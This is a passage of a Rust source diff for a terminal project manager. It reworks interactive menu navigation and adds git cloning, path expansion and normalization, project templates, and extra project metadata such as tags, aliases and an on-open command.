-    if !parent.exists() {
-        create_path_with_parent_dirs(
-            parent
-                .to_str()
-                .ok_or("Problem converting parent dir to string")?,
-        )?;
+    let projects_dir = default_projects_dir();
+    let path = projects_dir.join(dir_name);
+    if path.exists() {
+        return Err(format!("{} already exists", path.display()).into());
     }
-    Ok(path)
-}
+    fs::create_dir_all(&projects_dir)?;
 
-pub fn show_home_interface(prompt: &str) -> Result<String, DynErr> {
-    increment_visits()?;
-    let projects = get_projects()?;
-    let mut project_names = Vec::new();
-    for project in projects.iter() {
-        project_names.push(project.name.as_str());
+    let status = Command::new("git")
+        .arg("clone")
+        .arg("--")
+        .arg(url)
+        .arg(&path)
+        .status()
+        .map_err(|err| format!("Could not run git: {}", err))?;
+    if !status.success() {
+        return Err(format!("Could not clone {}", url).into());
     }
 
-    let prompt = if get_visits()? == 1 {
-        format!("{}\n{}", WELCOME_SCREEN, "Press enter to continue")
-    } else {
-        prompt.to_string()
-    };
+    let path_str = path.to_str().ok_or("Problem converting path to string")?;
+    match add_project(&name, path_str, &[], "") {
+        Ok(HandlerOutcome::AddedProject { .. }) => {}
+        outcome => {
+            fs::remove_dir_all(&path)?;
+            return match outcome {
+                Ok(_) => Err(format!("Could not add {} as a project", name).into()),
+                Err(err) => Err(err),
+            };
+        }
+    }
+    open_project(&name, OpenAction::OpenInTerminal, &OpenOptions::default())?;
 
-    let selection = Select::with_theme(&ColorfulTheme::default())
-        .with_prompt(prompt)
-        .items(&[
-            "Open project",
-            "Add project",
-            "Edit project",
-            "Delete projects",
-            "New project",
-            "Quit (Esc)",
-        ])
-        .default(0)
-        .interact_opt()
-        .unwrap_or(None);
+    Ok(HandlerOutcome::AddedProject {
+        message: format!("Project {} cloned", name),
+        name,
+    })
+}
 
-    if selection.is_none() {
-        quit("Goodbye!");
-    }
+/// Expands a leading `~` to the home directory and any `$VAR` or `${VAR}`
+/// environment variables in a path.
+///
+/// Returns an error for `~user` paths and for variables that aren't set.
+///
+/// # Examples
+///
+/// ```
+/// use std::{env, path::PathBuf};
+/// use tpm_lib::expand_path;
+///
+/// env::set_var("HOME", "/home/me");
+/// env::set_var("CODE", "/srv/code");
+///
+/// assert_eq!(expand_path("~").unwrap(), PathBuf::from("/home/me"));
+/// assert_eq!(expand_path("~/foo").unwrap(), PathBuf::from("/home/me/foo"));
+/// assert_eq!(expand_path("$CODE/foo").unwrap(), PathBuf::from("/srv/code/foo"));
+/// assert_eq!(expand_path("${CODE}-old/foo").unwrap(), PathBuf::from("/srv/code-old/foo"));
+/// assert!(expand_path("~someone/foo").is_err());
+/// ```
+pub fn expand_path(raw: &str) -> Result<PathBuf, DynErr> {
+    let raw = raw.trim();
+    let path = match raw.strip_prefix('~') {
+        Some(rest) if rest.is_empty() || rest.starts_with(std::path::is_separator) => {
+            home_dir().to_string_lossy().into_owned() + rest
+        }
+        Some(_) => {
+            return Err(
+                format!("Expanding other users' home directories is not supported: {raw}").into(),
+            )
+        }
+        None => raw.to_string(),
+    };
 
-    let selection = selection.ok_or("Problem getting selection")?;
+    let mut expanded = String::new();
+    let mut chars = path.chars().peekable();
+    while let Some(c) = chars.next() {
+        if c != '$' {
+            expanded.push(c);
+            continue;
+        }
 
-    match selection {
-        0 => show_select_projects_interface(Action::Open, Some("Select a project to open")),
-        1 => show_add_project_interface(),
-        2 => show_select_projects_interface(Action::Edit, Some("Select a project to edit")),
-        3 => show_select_projects_interface(Action::Delete, Some("Select projects to delete")),
-        4 => show_new_project_interface(),
-        _ => quit("Goodbye!"),
+        let mut var = String::new();
+        if chars.next_if_eq(&'{').is_some() {
+            loop {
+                match chars.next() {
+                    Some('}') => break,
+                    Some(c) => var.push(c),
+                    None => return Err(format!("Unterminated variable in path: {raw}").into()),
+                }
+            }
+        } else {
+            while let Some(c) = chars.next_if(|c| c.is_alphanumeric() || *c == '_') {
+                var.push(c);
+            }
+        }
+
+        if var.is_empty() {
+            expanded.push('$');
+            continue;
+        }
+        let value = env::var(&var).map_err(|_| format!("Environment variable {var} is not set"))?;
+        expanded.push_str(&value);
     }
+
+    Ok(PathBuf::from(expanded))
 }
 
-pub fn select_no_projects_found() -> Result<String, DynErr> {
-    let selection = Select::with_theme(&ColorfulTheme::default())
-        .with_prompt("No projects found")
-        .items(&["Add project", "Quit"])
-        .default(0)
-        .interact()
-        .unwrap_or(1);
-    match selection {
-        0 => show_add_project_interface(),
-        _ => quit("Goodbye!"),
+/// Returns true if two project paths point to the same directory.
+///
+/// Paths that exist are canonicalized, so symlinks, `~`, relative paths, and
+/// trailing slashes all compare equal. Otherwise the paths are made absolute
+/// and compared with trailing slashes and `.` components removed.
+///
+/// # Examples
+///
+/// ```
+/// use std::env;
+/// use tpm_lib::paths_equal;
+///
+/// let cwd = env::current_dir().unwrap();
+/// let cwd = cwd.to_str().unwrap();
+///
+/// assert!(paths_equal(cwd, &format!("{}/", cwd)));
+/// assert!(paths_equal(".", cwd));
+/// assert!(paths_equal("not-yet-created/", &format!("{}/./not-yet-created", cwd)));
+/// assert!(paths_equal("/not/yet/./created/", "/not/yet/created"));
+/// assert!(!paths_equal("/not/yet/created", "/not/yet"));
+/// ```
+pub fn paths_equal(a: &str, b: &str) -> bool {
+    match (normalize_path(a), normalize_path(b)) {
+        (Some(a), Some(b)) => a == b,
+        _ => a == b,
     }
 }
 
-pub fn quit(msg: &str) -> ! {
-    println!("{}", msg);
-    process::exit(0);
+/// Returns `path` relative to `base` if it's inside it, for storing in the
+/// projects file. Other paths are returned as they are.
+///
+/// # Examples
+///
+/// ```
+/// use std::path::Path;
+/// use tpm_lib::relativize_path;
+///
+/// let base = Path::new("/home/me/dev");
+/// assert_eq!(relativize_path("/home/me/dev/api", base), "api");
+/// assert_eq!(relativize_path("/home/me/dev/work/site", base), "work/site");
+/// assert_eq!(relativize_path("/home/me/dev", base), ".");
+/// assert_eq!(relativize_path("/home/me/devtools", base), "/home/me/devtools");
+/// assert_eq!(relativize_path("/srv/api", base), "/srv/api");
+/// ```
+pub fn relativize_path(path: &str, base: &Path) -> String {
+    let bases = [Some(base.to_path_buf()), base.canonicalize().ok()];
+    for base in bases.iter().flatten() {
+        if let Ok(relative) = Path::new(path).strip_prefix(base) {
+            return match relative.to_str() {
+                Some("") => ".".to_string(),
+                Some(relative) => relative.to_string(),
+                None => path.to_string(),
+            };
+        }
+    }
+    path.to_string()
 }
 
-trait IntoString {
-    fn into_string(self) -> Result<String, DynErr>;
+/// Joins a relative `path` from the projects file back onto `base`. Absolute
+/// paths are returned as they are.
+///
+/// # Examples
+///
+/// ```
+/// use std::path::Path;
+/// use tpm_lib::absolutize_path;
+///
+/// let base = Path::new("/home/me/dev");
+/// assert_eq!(absolutize_path("api", base), "/home/me/dev/api");
+/// assert_eq!(absolutize_path(".", base), "/home/me/dev");
+/// assert_eq!(absolutize_path("/srv/api", base), "/srv/api");
+/// ```
+pub fn absolutize_path(path: &str, base: &Path) -> String {
+    if path.is_empty() || Path::new(path).is_absolute() {
+        return path.to_string();
+    }
+    let joined = if path == "." {
+        base.to_path_buf()
+    } else {
+        base.join(path)
+    };
+    joined.to_string_lossy().into_owned()
 }
 
-impl IntoString for OsString {
-    fn into_string(self) -> Result<String, DynErr> {
-        self.into_string().map_err(|err| err.into())
+/// Joins relative paths read from the projects file (see the
+/// `store_relative_paths` setting) onto the default projects directory.
+fn absolutize_project_paths(projects: &mut [Project]) {
+    let base = default_projects_dir();
+    for project in projects {
+        project.path = absolutize_path(&project.path, &base);
     }
 }
 
-pub fn show_add_project_interface() -> Result<String, DynErr> {
-    let current_dir = env::current_dir()?;
-    let default_name = current_dir
-        .file_name()
-        .ok_or("Problem getting file name")?
-        .to_str()
-        .ok_or("Problem converting file name to string")?
-        .to_string();
-    let default_path = current_dir.to_str().unwrap_or_default().to_string();
-    let name = Input::<String>::new()
-        .with_prompt("Project name")
-        .default(default_name)
-        .interact_text()?;
-    let path = Input::<String>::new()
-        .with_prompt("Project path")
-        .default(default_path)
-        .interact_text()?;
-    if name.is_empty() || path.is_empty() {
-        println!("Name and path cannot be empty");
-        return show_add_project_interface();
+fn normalize_path(raw: &str) -> Option<PathBuf> {
+    let path = expand_path(raw).ok()?;
+    if let Ok(path) = path.canonicalize() {
+        return Some(path);
     }
+    let path = if path.is_absolute() {
+        path
+    } else {
+        env::current_dir().ok()?.join(path)
+    };
 
-    add_project(name.as_str(), path.as_str())
+    Some(
+        path.components()
+            .filter(|component| *component != Component::CurDir)
+            .collect(),
+    )
 }
 
-pub enum Dialogue<'a> {
-    Select(Select<'a>),
-    MultiSelect(MultiSelect<'a>),
-    // Confirm(Confirm<'a>),
-    // Input(Input<'a, String>),
+/// Returns the directory project templates are read from.
+pub fn get_templates_dir() -> Result<PathBuf, DynErr> {
+    Ok(get_config_dir()?.join("templates"))
 }
 
-#[derive(Debug, Clone, Serialize, Deserialize, Hash, Eq, PartialEq, Default)]
-pub struct Project {
-    name: String,
-    path: String,
-    last_opened: Duration,
+/// Returns the names of the project templates, sorted.
+///
+/// Each directory in the templates directory (`templates` in the config
+/// directory) is a template, whose contents are copied into new projects
+/// created with it.
+pub fn list_templates() -> Vec<String> {
+    let Ok(entries) = get_templates_dir().and_then(|dir| Ok(fs::read_dir(dir)?)) else {
+        return vec![];
+    };
+    let mut templates = entries
+        .filter_map(|entry| entry.ok())
+        .filter(|entry| entry.path().is_dir())
+        .filter_map(|entry| entry.file_name().into_string().ok())
+        .collect::<Vec<_>>();
+    templates.sort();
+    templates
 }
 
-impl Project {
-    fn set_last_opened(&mut self) -> Result<(), DynErr> {
-        self.last_opened = SystemTime::now().duration_since(SystemTime::UNIX_EPOCH)?;
-        Ok(())
+/// Recursively copies the contents of the `from` directory into `to`.
+fn copy_dir_contents(from: &Path, to: &Path) -> io::Result<()> {
+    for entry in fs::read_dir(from)? {
+        let entry = entry?;
+        let target = to.join(entry.file_name());
+        if entry.path().is_dir() {
+            fs::create_dir_all(&target)?;
+            copy_dir_contents(&entry.path(), &target)?;
+        } else {
+            fs::copy(entry.path(), &target)?;
+        }
     }
+
+    Ok(())
 }
 
-impl fmt::Display for Project {
-    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
-        write!(f, "{} ({})", self.name, self.path)
+/// Creates the directory `path` and any missing parent directories. Returns
+/// the outermost directory that was created, so removing it removes them all.
+pub(crate) fn create_dir_with_parents(path: &Path) -> Result<PathBuf, DynErr> {
+    let mut outermost = path;
+    while let Some(parent) = outermost.parent() {
+        if parent.as_os_str().is_empty() || parent.exists() {
+            break;
+        }
+        outermost = parent;
     }
-}
+    fs::create_dir_all(path)?;
 
-pub fn load_projects_from_disk() -> Result<Vec<Project>, DynErr> {
-    let mut file = open_projects_file(true, false, false)?;
-    let mut json = String::new();
-    file.read_to_string(&mut json)?;
-    let projects_set: HashSet<Project> = serde_json::from_str(&json).unwrap_or_default();
-    let mut projects: Vec<Project> = projects_set.into_iter().collect();
-    // sort by last opened (most recent first)
-    projects.sort_by(|a, b| b.last_opened.cmp(&a.last_opened));
-    Ok(projects)
+    Ok(outermost.to_path_buf())
 }
 
-pub fn get_projects() -> Result<Vec<Project>, DynErr> {
-    let projects = unsafe {
-        PROJECTS
-            .get_or_init(|| Mutex::new(load_projects_from_disk().unwrap_or_default()))
-            .lock()?
-    };
-
-    Ok(projects.to_vec())
+/// Where to go after an interactive prompt is done.
+///
+/// Interfaces return this instead of calling each other, so pressing Esc or
+/// entering nothing always goes back exactly one level.
+#[derive(Debug, Clone, PartialEq)]
+pub(crate) enum NavResult {
+    /// Go back to the previous prompt.
+    Back,
+    /// Go back to the home menu.
+    Home,
+    /// Stop with the outcome of what was done.
+    Done(HandlerOutcome),
 }
 
-pub fn set_projects(projects: &[Project]) -> Result<(), DynErr> {
-    unsafe {
-        *PROJECTS
-            .get_or_init(|| Mutex::new(load_projects_from_disk().unwrap_or_default()))
-            .lock()? = projects.to_vec();
+/// Finishes an interface that was started directly from the command line,
+/// showing the home menu if the user backed out of it.
+pub(crate) fn nav_or_home(nav: NavResult) -> Result<HandlerOutcome, DynErr> {
+    match nav {
+        NavResult::Done(outcome) => Ok(outcome),
+        NavResult::Back | NavResult::Home => show_home_interface("What would you like to do?"),
     }
-
-    Ok(())
 }
 
-pub fn save_projects(projects: &[Project]) -> Result<(), DynErr> {
-    let mut file = File::create(get_config_dir()?.join("projects.json"))?;
-    let json = serde_json::to_string_pretty(&projects)?;
-    file.write_all(json.as_bytes())?;
-    set_projects(projects)?;
-
-    // also save a list of project names to a file for use in bash completion
-    let mut file = File::create(get_config_dir()?.join("project_names.txt"))?;
-    let names_vec: Vec<&str> = projects
-        .iter()
-        .map(|project| project.name.as_str())
-        .collect();
-    let names = names_vec.join("\n");
-    file.write_all(names.as_bytes())?;
-
-    Ok(())
-}
+/// Shows the home menu until the user finishes something or quits with Esc.
+pub(crate) fn show_home_interface(prompt: &str) -> Result<HandlerOutcome, DynErr> {
+    increment_visits()?;
 
-pub fn add_project(name: &str, path: &str) -> Result<String, DynErr> {
-    let mut projects = get_projects()?;
-    let default_path = env::current_dir()?;
-    let default_name = default_path
-        .file_name()
-        .ok_or("Problem getting default name")?
-        .to_str()
-        .ok_or("Problem converting default name to string")?;
-    let name = if name.is_empty() { default_name } else { name };
-    let path = if path.is_empty() {
-        let default_path_str = default_path
-            .to_str()
-            .ok_or("Problem converting default path to string")?;
-        PathBuf::from(default_path_str)
+    let mut prompt = if get_visits()? == 1 {
+        format!("{}\n{}", WELCOME_SCREEN, "Press enter to continue")
     } else {
-        PathBuf::from(path).canonicalize()?
-    };
-    let mut project = Project {
-        name: name.to_string(),
-        path: path
-            .to_str()
-            .ok_or("Problem converting path to string")?
-            .to_string(),
-        last_opened: Duration::from_secs(0),
+        prompt.to_string()
     };
-    project.set_last_opened()?;
-    if project_already_exists(&project.name) {
-        return show_overwrite_project_interface(&project);
-    }
-    projects.push(project.clone());
-    save_projects(&projects)?;
 
-    Ok(format!("Added {}!", name))
-}
+    loop {
+        let selection = Select::with_theme(&ColorfulTheme::default())
+            .with_prompt(&prompt)
+            .items(&[
+                "Open project",
+                "Add project",
+                "Edit project",
+                "Delete projects",
+                "New project",
+                "Quit (Esc)",
+            ])
+            .default(0)
+            .interact_opt()
+            .unwrap_or(None);
 
-pub fn show_overwrite_project_interface(project: &Project) -> Result<String, DynErr> {
-    let selection = Select::with_theme(&ColorfulTheme::default())
-        .with_prompt(format!(
-            "Project {} already exists. Overwrite?",
-            project.name
-        ))
-        .items(&["Yes", "No", "Back", "Quit"])
-        .default(0)
-        .interact()
-        .unwrap_or(1);
-    match selection {
-        0 => {
-            // confirm overwrite
-            let selection = Confirm::with_theme(&ColorfulTheme::default())
-                .with_prompt(format!("Overwrite project {}", project.name))
-                .default(false)
-                .interact()?;
-            if selection {
-                // overwrite
-                let mut projects = get_projects()?;
-                projects.retain(|p| p != project);
-                projects.push(project.clone());
-                save_projects(&projects)?;
+        let nav = match selection {
+            Some(0) => {
+                show_select_projects_interface(Action::Open, Some("Select a project to open"))?
             }
-            show_home_interface("What would you like to do?")
+            Some(1) => show_add_project_interface()?,
+            Some(2) => {
+                show_select_projects_interface(Action::Edit, Some("Select a project to edit"))?
+            }
+            Some(3) => show_select_projects_interface(
+                Action::Delete {
+                    dry_run: false,
+                    delete_dirs: false,
+                },
+                Some("Select projects to delete"),
+            )?,
+            Some(4) => show_new_project_interface()?,
+            _ => NavResult::Done(HandlerOutcome::Completed),
+        };
+
+        match nav {
+            NavResult::Done(outcome) => return Ok(outcome),
+            NavResult::Back | NavResult::Home => prompt = "What would you like to do?".into(),
         }
-        1 => show_add_project_interface(),
-        2 => show_home_interface("What would you like to do?"),
-        _ => quit("Goodbye!"),
     }
 }
 
-pub fn project_already_exists(name_or_path: &str) -> bool {
-    let projects = get_projects().unwrap_or_default();
-    projects
+/// Shows a scrollable list of projects, sized to the terminal height.
+pub(crate) fn show_projects_list(prompt: &str, projects: &[Project]) {
+    // term height without using crates
+    let term_height = console::Term::stdout().size().0;
+    let items = projects
         .iter()
-        .any(|p| p.name == name_or_path || p.path == name_or_path)
+        .map(|project| {
+            let git_info = [&project.git_branch, &project.git_remote]
+                .into_iter()
+                .flatten()
+                .map(String::as_str)
+                .collect::<Vec<_>>();
+            if git_info.is_empty() {
+                project.to_string()
+            } else {
+                format!("{} [{}]", project, git_info.join(" @ "))
+            }
+        })
+        .collect::<Vec<_>>();
+    Select::with_theme(&ColorfulTheme::default())
+        .with_prompt(prompt)
+        .items(&items)
+        .default(0)
+        .max_length(term_height as usize - 1)
+        .interact_opt()
+        .unwrap_or(None);
 }
 
-pub fn show_select_projects_interface(
-    action: Action,
-    prompt: Option<&str>,
-) -> Result<String, DynErr> {
-    let projects = get_projects()?;
+/// Returns how many projects to show at once when selecting a project: the
+/// `max_list_length` setting, capped so the list fits in the terminal.
+pub(crate) fn select_max_length() -> usize {
+    let max_length = load_config().max_list_length;
+    match console::Term::stdout().size_checked() {
+        Some((term_height, _)) => max_length
+            .min((term_height as usize).saturating_sub(1))
+            .max(1),
+        None => max_length,
+    }
+}
 
-    if projects.is_empty() {
-        return select_no_projects_found();
+pub(crate) fn select_no_projects_found() -> Result<NavResult, DynErr> {
+    let selection = Select::with_theme(&ColorfulTheme::default())
+        .with_prompt("No projects found")
+        .items(&["Add project", "Back", "Quit"])
+        .default(0)
+        .interact_opt()
+        .unwrap_or(None);
+    match selection {
+        Some(0) => show_add_project_interface(),
+        Some(2) => Ok(NavResult::Done(HandlerOutcome::Completed)),
+        _ => Ok(NavResult::Back),
     }
+}
 
-    let project_names = projects
-        .iter()
-        .map(|project| project.name.as_str())
-        .collect::<Vec<_>>();
+/// Asks for the details of an existing directory and adds it as a project.
+///
+/// An empty name or path goes back to where the user came from.
+pub(crate) fn show_add_project_interface() -> Result<NavResult, DynErr> {
+    let current_dir = env::current_dir()?;
+    let default_name = current_dir
+        .file_name()
+        .ok_or("Problem getting file name")?
+        .to_str()
+        .ok_or("Problem converting file name to string")?
+        .to_string();
+    let default_path = current_dir.to_str().unwrap_or_default().to_string();
+    let name = read_input(
+        Input::<String>::new()
+            .with_prompt("Project name")
+            .default(default_name),
+    )?;
+    let path = read_input(
+        Input::<String>::new()
+            .with_prompt("Project path")
+            .default(default_path),
+    )?;
+    if name.trim().is_empty() || path.trim().is_empty() {
+        return Ok(NavResult::Back);
+    }
+    let description = read_input(
+        Input::<String>::new()
+            .with_prompt("Description")
+            .allow_empty(true),
+    )?;
+    let tags = read_input(
+        Input::<String>::new()
+            .with_prompt("Tags (comma-separated)")
+            .allow_empty(true),
+    )?;
 
-    let theme = ColorfulTheme::default();
+    match add_project(
+        name.as_str(),
+        path.as_str(),
+        &parse_tags(&tags),
+        description.as_str(),
+    )? {
+        HandlerOutcome::Canceled => Ok(NavResult::Back),
+        outcome => Ok(NavResult::Done(outcome)),
+    }
+}
 
-    let dialogue = match action {
-        Action::Delete => Dialogue::MultiSelect(
-            MultiSelect::with_theme(&theme)
-                .with_prompt(prompt.unwrap_or("Select a project"))
-                .items(&project_names)
-                .max_length(5),
-        ),
-        _ => Dialogue::Select(
-            Select::with_theme(&theme)
-                .with_prompt(prompt.unwrap_or("Select a project"))
-                .items(&project_names)
-                .max_length(5),
-        ),
-    };
+pub enum Dialogue<'a> {
+    Select(Select<'a>),
+    FuzzySelect(FuzzySelect<'a>),
+    MultiSelect(MultiSelect<'a>),
+    // Confirm(Confirm<'a>),
+    // Input(Input<'a, String>),
+}
 
-    let selections = match dialogue {
-        Dialogue::Select(select) => select
-            .default(0)
-            .interact_opt()?
-            .map(|selection| vec![selection]),
-        Dialogue::MultiSelect(multi_select) => multi_select.interact_opt()?,
-    };
+/// A project: a named directory, plus when it was last opened and other details.
+///
+/// Timestamps are stored as seconds since the Unix epoch. Projects files
+/// written by older versions, which stored them as `{"secs": ..., "nanos": ...}`,
+/// are still read.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::Project;
+///
+/// let legacy: Project = serde_json::from_str(
+///     r#"{"name": "foo", "path": "/code/foo", "last_opened": {"secs": 1697500000, "nanos": 0}}"#,
+/// )
+/// .unwrap();
+/// let json = serde_json::to_string(&legacy).unwrap();
+/// assert!(json.contains(r#""last_opened":1697500000"#));
+/// assert_eq!(serde_json::from_str::<Project>(&json).unwrap(), legacy);
+/// ```
+#[derive(Debug, Clone, Serialize, Deserialize, Hash, Eq, PartialEq, Default)]
+pub struct Project {
+    name: String,
+    path: String,
+    /// Kept as the time since the Unix epoch rather than a `SystemTime`, since
+    /// sorting, pruning and relative times all work with durations. Only whole
+    /// seconds are stored, so it's truncated to seconds when it's set.
+    #[serde(with = "epoch_seconds")]
+    last_opened: Duration,
+    /// When the project was added to `tpm`, set once and never modified
+    #[serde(default, with = "epoch_seconds")]
+    created_at: Duration,
+    /// A one-line description of the project, empty if there is none
+    #[serde(default)]
+    description: String,
+    #[serde(default)]
+    tags: Vec<String>,
+    /// Archived projects are hidden from the project lists by default
+    #[serde(default)]
+    archived: bool,
+    /// URL of the `origin` remote, if the project is a git repository
+    #[serde(default)]
+    git_remote: Option<String>,
+    /// Branch checked out when the project was added
+    #[serde(default)]
+    git_branch: Option<String>,
+    /// Shell command run in the project directory whenever it's opened
+    #[serde(default)]
+    on_open: Option<String>,
+    /// Other names the project can be opened, edited, or deleted by
+    #[serde(default)]
+    aliases: Vec<String>,
+}
 
-    if selections.is_none() || selections.as_ref().unwrap_or(&vec![]).is_empty() {
-        return show_home_interface("What would you like to do?");
+impl Project {
+    /// Creates a project that has never been opened, trimming the name and
+    /// path like [`Project::rename`] and [`Project::set_path`] do.
+    ///
+    /// # Examples
+    ///
+    /// ```
+    /// use std::time::Duration;
+    /// use tpm_lib::Project;
+    ///
+    /// let project = Project::new(" my-project ", "/code/my-project/").unwrap();
+    /// assert_eq!(project.name(), "my-project");
+    /// assert_eq!(project.path(), "/code/my-project");
+    /// assert_eq!(project.last_opened(), Duration::ZERO);
+    ///
+    /// assert!(Project::new("", "/code").is_err());
+    /// ```
+    pub fn new(name: &str, path: &str) -> Result<Self, DynErr> {
+        let mut project = Project::default();
+        project.rename(name)?;
+        project.set_path(path)?;
+        Ok(project)
     }
 
-    let selections = selections.unwrap_or_default();
+    /// Returns the project name.
+    pub fn name(&self) -> &str {
+        &self.name
+    }
 
-    if selections.is_empty() {
-        quit("No project selected, goodbye!");
+    /// Returns the project path, as it was added.
+    pub fn path(&self) -> &str {
+        &self.path
     }
 
-    let mut selected_projects = vec![];
-    for selection in selections {
-        selected_projects.push(projects[selection].clone());
+    /// Returns the project path as a `PathBuf`, as it was added.
+    pub fn path_buf(&self) -> PathBuf {
+        PathBuf::from(&self.path)
     }
 
-    match action {
-        Action::Open => {
-            let selection = Select::with_theme(&ColorfulTheme::default())
-                .with_prompt("Open project in")
-                .items(&["Terminal", "Editor", "Back", "Quit"])
-                .default(0)
-                .interact_opt()
-                .unwrap_or_else(|e| panic!("Error: {}", e));
+    /// Returns the project directory with symlinks and `..` resolved, or an
+    /// error if it no longer exists or isn't a directory.
+    ///
+    /// Everything that works on the project directory (opening, moving, and
+    /// deleting it, and checking for missing directories) goes through this.
+    ///
+    /// # Examples
+    ///
+    /// ```
+    /// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+    /// # let _ = std::fs::remove_dir_all(&tmp);
+    /// # std::fs::create_dir_all(&tmp).unwrap();
+    /// # std::env::set_var("HOME", &tmp);
+    /// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+    /// # #[cfg(unix)]
+    /// # {
+    /// use std::{fs, os::unix::fs::symlink};
+    /// use tpm_lib::Project;
+    ///
+    /// let base = tmp.join("canonical");
+    /// fs::create_dir_all(base.join("real")).unwrap();
+    /// symlink(base.join("real"), base.join("link")).unwrap();
+    ///
+    /// let real = base.join("real").canonicalize().unwrap();
+    /// for path in [base.join("real"), base.join("link"), base.join("link/../real")] {
+    ///     let project = Project::new("canonical", path.to_str().unwrap()).unwrap();
+    ///     assert_eq!(project.canonical_project_path().unwrap(), real);
+    /// }
+    ///
+    /// let missing = Project::new("missing", base.join("gone").to_str().unwrap()).unwrap();
+    /// assert!(missing.canonical_project_path().unwrap_err().to_string().contains("no longer exists"));
+    /// # }
+    /// # std::fs::remove_dir_all(&tmp).unwrap();
+    /// ```
+    pub fn canonical_project_path(&self) -> Result<PathBuf, DynErr> {
+        match self.path_buf().canonicalize() {
+            Ok(path) if path.is_dir() => Ok(path),
+            Ok(path) => Err(format!(
+                "{} for project {} is not a directory",
+                path.display(),
+                self.name
+            )
+            .into()),
+            Err(_) => Err(format!(
+                "Directory {} for project {} no longer exists. Run `tpm doctor` to remove the \
+                 project or point it at the directory's new location",
+                self.path, self.name
+            )
+            .into()),
+        }
+    }
 
-            if selection.is_none() {
-                return show_select_projects_interface(Action::Open, None);
-            }
+    /// Returns when the project was last opened, as the time since the Unix
+    /// epoch. Projects that were never opened return zero.
+    pub fn last_opened(&self) -> Duration {
+        self.last_opened
+    }
 
-            let selection = selection.unwrap_or_default();
-            match selection {
-                0 => {
-                    let project = &selected_projects[0];
-                    return open_project(&project.name, OpenAction::OpenInTerminal, false);
-                }
-                1 => {
-                    let project = &selected_projects[0];
-                    return open_project(&project.name, OpenAction::OpenInEditor, false);
-                }
-                2 => {
-                    return show_select_projects_interface(Action::Open, None);
-                }
-                3 => quit("Goodbye!"),
-                _ => {}
-            }
+    /// Marks the project as opened now, to the second, like it's stored.
+    ///
+    /// # Examples
+    ///
+    /// ```
+    /// use tpm_lib::Project;
+    ///
+    /// let mut project = Project::default();
+    /// project.set_last_opened().unwrap();
+    /// assert_eq!(project.last_opened().subsec_nanos(), 0);
+    ///
+    /// // so saving and loading it again gives the same project
+    /// let json = serde_json::to_string(&project).unwrap();
+    /// assert_eq!(serde_json::from_str::<Project>(&json).unwrap(), project);
+    /// ```
+    pub fn set_last_opened(&mut self) -> Result<(), DynErr> {
+        let now = SystemTime::now().duration_since(SystemTime::UNIX_EPOCH)?;
+        self.last_opened = Duration::from_secs(now.as_secs());
+        Ok(())
+    }
+
+    /// Renames the project, trimming surrounding whitespace.
+    ///
+    /// Returns an error if the new name is empty or contains control characters.
+    ///
+    /// # Examples
+    ///
+    /// ```
+    /// use tpm_lib::Project;
+    ///
+    /// let mut project = Project::default();
+    /// assert!(project.rename("   ").is_err());
+    /// assert!(project.rename(" my-project ").is_ok());
+    /// assert_eq!(project.to_string(), "my-project ()");
+    /// ```
+    pub fn rename(&mut self, new_name: &str) -> Result<(), DynErr> {
+        let new_name = new_name.trim();
+        if new_name.is_empty() {
+            return Err("Name cannot be empty".into());
         }
-        Action::Delete => {
-            let also_delete_dir = Confirm::with_theme(&ColorfulTheme::default())
-                .with_prompt("Also delete project directory?")
-                .default(false)
-                .interact()?;
-            return delete_projects(
-                &selected_projects
-                    .iter()
-                    .map(|project| project.name.as_str())
-                    .collect::<Vec<_>>(),
-                also_delete_dir,
-            );
+        if new_name.chars().any(char::is_control) {
+            return Err("Name cannot contain control characters".into());
         }
-        Action::Edit => {
-            let project = &selected_projects.first().ok_or("Problem getting project")?;
-            return edit_project(&project.name);
+        self.name = new_name.to_string();
+        Ok(())
+    }
+
+    /// Sets the project description, trimming surrounding whitespace.
+    ///
+    /// Returns an error if the description contains control characters, such
+    /// as newlines.
+    ///
+    /// # Examples
+    ///
+    /// ```
+    /// use tpm_lib::Project;
+    ///
+    /// let mut project = Project::default();
+    /// project.rename("my-project").unwrap();
+    /// assert!(project.set_description("line one\nline two").is_err());
+    /// project.set_description(" Personal site ").unwrap();
+    /// assert_eq!(project.to_string(), "my-project — Personal site ()");
+    /// ```
+    pub fn set_description(&mut self, description: &str) -> Result<(), DynErr> {
+        let description = description.trim();
+        if description.chars().any(char::is_control) {
+            return Err("Description cannot contain control characters".into());
         }
+        self.description = description.to_string();
+        Ok(())
     }
 
-    Err("Problem getting selection".into())
-}
+    /// Returns the project name, followed by the description if there is one.
+    pub fn label(&self) -> String {
+        if self.description.is_empty() {
+            self.name.clone()
+        } else {
+            format!("{} — {}", self.name, self.description)
+        }
+    }
 
-pub fn delete_project(name: &str) -> Result<String, DynErr> {
-    let mut projects = get_projects()?;
-    projects.retain(|project| project.name != name);
-    save_projects(&projects)?;
+    /// Sets the shell command run whenever the project is opened. An empty
+    /// command removes it.
+    pub fn set_on_open(&mut self, command: &str) {
+        let command = command.trim();
+        self.on_open = (!command.is_empty()).then(|| command.to_string());
+    }
 
-    Ok(format!("Deleted {}!", name))
-}
+    /// Returns true if `name` is the project's name or one of its aliases.
+    pub fn is_named(&self, name: &str) -> bool {
+        self.name == name || self.aliases.iter().any(|alias| alias == name)
+    }
 
-pub fn delete_projects(names: &[&str], also_delete_dir: bool) -> Result<String, DynErr> {
-    let mut projects = get_projects()?;
-    if also_delete_dir {
-        for name in names {
-            let project = projects
-                .iter()
-                .find(|project| project.name == *name)
-                .ok_or("Project not found")?;
-            fs::remove_dir_all(&project.path)?;
+    /// Replaces the project's aliases, trimming each one and dropping empty
+    /// and duplicate aliases.
+    pub fn set_aliases(&mut self, aliases: &[String]) {
+        self.aliases.clear();
+        for alias in aliases.iter().map(|alias| alias.trim()) {
+            if !alias.is_empty() && !self.aliases.iter().any(|a| a == alias) {
+                self.aliases.push(alias.to_string());
+            }
         }
     }
-    projects.retain(|project| !names.contains(&project.name.as_str()));
-    save_projects(&projects)?;
 
-    let msg = if names.len() == 1 {
-        format!("Project {} deleted", names[0])
-    } else {
-        format!("Projects {} deleted", listify(names))
-    };
+    /// Replaces the project's tags, trimming each one and dropping empty and
+    /// duplicate (ignoring case) tags.
+    pub fn set_tags(&mut self, tags: &[String]) {
+        self.tags = parse_tags(&tags.join(","));
+    }
 
